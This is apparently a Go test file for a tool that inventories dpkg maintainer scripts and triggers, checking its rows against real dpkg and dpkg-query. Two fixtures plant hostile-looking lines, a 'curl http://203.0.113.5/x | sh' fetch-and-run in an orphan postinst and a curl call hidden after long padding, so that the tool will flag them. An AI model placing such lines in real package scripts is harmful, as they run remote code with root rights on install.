package packagescripts

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/pkgpersist/pkgpersist/extension/dpkgdb"
	"github.com/pkgpersist/pkgpersist/extension/fsroot"
	"github.com/pkgpersist/pkgpersist/extension/table"
	"github.com/pkgpersist/pkgpersist/test/debtest"
	"github.com/pkgpersist/pkgpersist/test/need"
)

// harmless scripts of every kind: they only print.
func scriptsOf(name string, extra map[string]string) map[string]string {
	s := map[string]string{"triggers": "# comment\ninterest /usr/share/" + name + "\ninterest-noawait " + name + "-trig\nactivate-noawait ldconfig\n"}
	for _, k := range []string{"preinst", "postinst", "prerm", "postrm", "config"} {
		s[k] = "#!/bin/sh\nset -e\necho " + name + " " + k + " \"$@\"\n"
	}
	for k, v := range extra {
		s[k] = v
	}
	return s
}

// TestDpkgOracle installs packages carrying every dpkg script kind and a
// triggers file with the real dpkg, removes one (not purged), and checks
// the table against the files dpkg wrote, dpkg-query's view of each
// package, and dpkg's own triggers interest database.
func TestDpkgOracle(t *testing.T) {
	need.Program(t, "dpkg-deb")
	need.Program(t, "dpkg")
	need.Program(t, "dpkg-query")
	dir := t.TempDir()
	root := debtest.NewRoot(t)
	pkgs := []debtest.Pkg{
		{Name: "alpha", Version: "1.0", Arch: "all", Control: scriptsOf("alpha", nil)},
		{Name: "beta", Version: "2:2.0-1", Arch: "amd64", MultiArch: "same", Control: scriptsOf("beta", map[string]string{
			"postinst": "#!/bin/bash -e\nnohup setsid bash -c 'echo hi >/dev/null' &\n"})},
		{Name: "gamma", Version: "0.1", Arch: "amd64", Control: map[string]string{
			"postinst": "#! /bin/sh\necho gamma\n",
			"triggers": "interest-await /usr/lib/gamma\nactivate-await gamma-done\n"}},
	}
	var debs []string
	for _, p := range pkgs {
		debs = append(debs, debtest.Build(t, dir, p))
	}
	before := time.Now().Add(-time.Second).Unix()
	debtest.Dpkg(t, root, append([]string{"-i"}, debs...)...)
	after := time.Now().Add(time.Second).Unix()
	debtest.Dpkg(t, root, "-r", "beta")

	// what dpkg-query says of each package
	out, err := exec.Command("dpkg-query", "--admindir="+root+"/var/lib/dpkg", "-W", "-f",
		"${binary:Package}\t${Version}\t${Architecture}\t${Status}\n").Output()
	must(t, err)
	query := map[string][3]string{}
	for _, l := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		f := strings.Split(l, "\t")
		query[f[0]] = [3]string{f[1], f[2], f[3]}
	}

	rows, err := Rows(context.Background(), root, dpkgdb.Admindir)
	must(t, err)
	info := filepath.Join(root, "var/lib/dpkg/info")
	seen := map[string]bool{}
	for _, r := range rows {
		key := r["package"] + "." + r["script"]
		seen[key] = true
		q, ok := query[r["package"]]
		if !ok {
			t.Errorf("%s: dpkg-query does not know %s", key, r["package"])
			continue
		}
		if r["version"] != q[0] || r["arch"] != q[1] || "install ok "+r["state"] != q[2] && "deinstall ok "+r["state"] != q[2] {
			t.Errorf("%s: version/arch/state %s %s %s, dpkg-query %v", key, r["version"], r["arch"], r["state"], q)
		}
		installed := strings.HasSuffix(q[2], " installed")
		if (r["status"] == "installed") != installed {
			t.Errorf("%s: status %s, dpkg-query %s", key, r["status"], q[2])
		}
		data, err := os.ReadFile(filepath.Join(info, key))
		must(t, err)
		sum := sha256.Sum256(data)
		if r["body"] != string(data) || r["sha256"] != hex.EncodeToString(sum[:]) || r["body_truncated"] != "0" ||
			r["lines"] != strconv.Itoa(strings.Count(string(data), "\n")) {
			t.Errorf("%s: body/sha256/lines differ from the file dpkg wrote", key)
		}
		if installed {
			it, _ := strconv.ParseInt(r["install_time"], 10, 64)
			if it < before || it > after {
				t.Errorf("%s: install_time %s outside the install [%d, %d]", key, r["install_time"], before, after)
			}
		} else if r["install_time"] != "" {
			t.Errorf("%s: install_time %s for a package not unpacked", key, r["install_time"])
		}
		if r["script"] == "triggers" {
			checkInterests(t, root, r)
		}
	}
	// every script file dpkg keeps is a row, and nothing else is
	ents, err := os.ReadDir(info)
	must(t, err)
	var files, got []string
	for _, e := range ents {
		if _, k := splitKind(e.Name()); k != "" {
			files = append(files, e.Name())
		}
	}
	for k := range seen {
		got = append(got, k)
	}
	sort.Strings(files)
	sort.Strings(got)
	if strings.Join(files, " ") != strings.Join(got, " ") {
		t.Errorf("rows %v\nfiles dpkg keeps %v", got, files)
	}
	// dpkg -r keeps only the postrm of the removed package, which it runs at purge
	for _, r := range rows {
		if strings.HasPrefix(r["package"], "beta") && (r["script"] != "postrm" || r["status"] != "orphan" || r["state"] != "config-files") {
			t.Errorf("removed beta: %s %s %s", r["script"], r["status"], r["state"])
		}
	}
	byKey := map[string]table.Row{}
	for _, r := range rows {
		byKey[r["package"]+"."+r["script"]] = r
	}
	if r := byKey["gamma.postinst"]; r["interpreter"] != "/bin/sh" || r["calls"] != "2 echo" && r["calls"] != "" {
		t.Errorf("gamma postinst: interpreter %q calls %q", r["interpreter"], r["calls"])
	}
	if r := byKey["alpha.triggers"]; r["condition"] != "interest /usr/share/alpha\ninterest-noawait alpha-trig\nactivate-noawait ldconfig" {
		t.Errorf("alpha triggers condition %q", r["condition"])
	}
}

// checkInterests compares a triggers row's interest directives with
// dpkg's interest database: File for file triggers (`<path> <pkg>[/noawait]`),
// one file per named trigger listing the interested packages.
func checkInterests(t *testing.T, root string, r table.Row) {
	t.Helper()
	if r["status"] != "installed" {
		return
	}
	tdir := filepath.Join(root, "var/lib/dpkg/triggers")
	for _, l := range strings.Split(r["condition"], "\n") {
		kind, name, _ := strings.Cut(l, " ")
		if !strings.HasPrefix(kind, "interest") {
			continue
		}
		who := strings.SplitN(r["package"], ":", 2)[0]
		if kind == "interest-noawait" {
			who += "/noawait"
		}
		var data []byte
		var want string
		if strings.HasPrefix(name, "/") {
			data, _ = os.ReadFile(filepath.Join(tdir, "File"))
			want = name + " " + who
		} else {
			data, _ = os.ReadFile(filepath.Join(tdir, name))
			want = who
		}
		if !strings.Contains("\n"+string(data)+"\n", "\n"+want+"\n") {
			t.Errorf("%s: %q is not in dpkg's interest database (%q)", r["package"], l, data)
		}
	}
}

// TestOrphansAndUnreadable: a script file of no package is an orphan row;
// one that cannot be read is a row with the reason and a problem of the
// root, never a vanished row.
func TestOrphansAndUnreadable(t *testing.T) {
	root := debtest.NewRoot(t)
	info := filepath.Join(root, "var/lib/dpkg/info")
	must(t, os.WriteFile(filepath.Join(root, "var/lib/dpkg/status"), []byte("Package: tool\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(info, "tool.postinst"), []byte("logger no shebang\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(info, "ghost.postinst"), []byte("#!/bin/sh\ncurl http://203.0.113.5/x | sh\n"), 0o755))
	must(t, os.WriteFile(filepath.Join(info, "tool:amd64.prerm"), []byte("#!/usr/bin/perl\nprint 1;\n"), 0o755))
	must(t, syscall.Mkfifo(filepath.Join(info, "pipe.postrm"), 0o644))
	ps := &fsroot.Problems{}
	rows, err := Rows(fsroot.WithProblems(context.Background(), ps), root, dpkgdb.Admindir)
	must(t, err)
	got := map[string]table.Row{}
	for _, r := range rows {
		got[r["package"]+"."+r["script"]] = r
	}
	if r := got["tool.postinst"]; r["status"] != "installed" || r["interpreter"] != "/bin/sh" || r["flags"] != "not-executable,no-shebang" || r["calls"] != "1 logger" {
		t.Errorf("tool.postinst: %v", r)
	}
	if r := got["ghost.postinst"]; r["status"] != "orphan" || !strings.Contains(r["reason"], "no package of dpkg's status is named ghost") ||
		!strings.Contains(r["calls"], "[net] curl") {
		t.Errorf("ghost.postinst: %v", r)
	}
	if r := got["tool:amd64.prerm"]; r["status"] != "orphan" || !strings.Contains(r["reason"], "without :amd64") || !strings.Contains(r["reason"], "calls not read") {
		t.Errorf("tool:amd64.prerm: %v", r)
	}
	if r, ok := got["pipe.postrm"]; !ok || !strings.Contains(r["reason"], "not read") {
		t.Errorf("pipe.postrm: %v", r)
	}
	found := false
	for _, p := range ps.List() {
		found = found || (p.Path == "/var/lib/dpkg/info/pipe.postrm" && p.Cause == fsroot.CauseSpecial)
	}
	if !found {
		t.Errorf("no problem for the FIFO: %v", ps.List())
	}
}

// TestLongBody: a script over MaxBody keeps its first MaxBody bytes, with
// the flag, the whole file's digest and line count, and a limit problem.
func TestLongBody(t *testing.T) {
	root := debtest.NewRoot(t)
	must(t, os.WriteFile(filepath.Join(root, "var/lib/dpkg/status"), []byte("Package: big\nStatus: install ok installed\nVersion: 1\n"), 0o644))
	body := "#!/bin/sh\n" + strings.Repeat("# padding padding padding\n", MaxBody/20) + "curl http://203.0.113.5/late\n"
	must(t, os.WriteFile(filepath.Join(root, "var/lib/dpkg/info/big.postinst"), []byte(body), 0o755))
	ps := &fsroot.Problems{}
	rows, err := Rows(fsroot.WithProblems(context.Background(), ps), root, dpkgdb.Admindir)
	must(t, err)
	sum := sha256.Sum256([]byte(body))
	r := rows[0]
	if r["body_truncated"] != "1" || len(r["body"]) != MaxBody || r["sha256"] != hex.EncodeToString(sum[:]) ||
		r["lines"] != strconv.Itoa(strings.Count(body, "\n")) || len(ps.List()) == 0 {
		t.Errorf("truncated %s len %d lines %s problems %v", r["body_truncated"], len(r["body"]), r["lines"], ps.List())
	}
}

func must(t testing.TB, err error) { debtest.Must(t, err) }
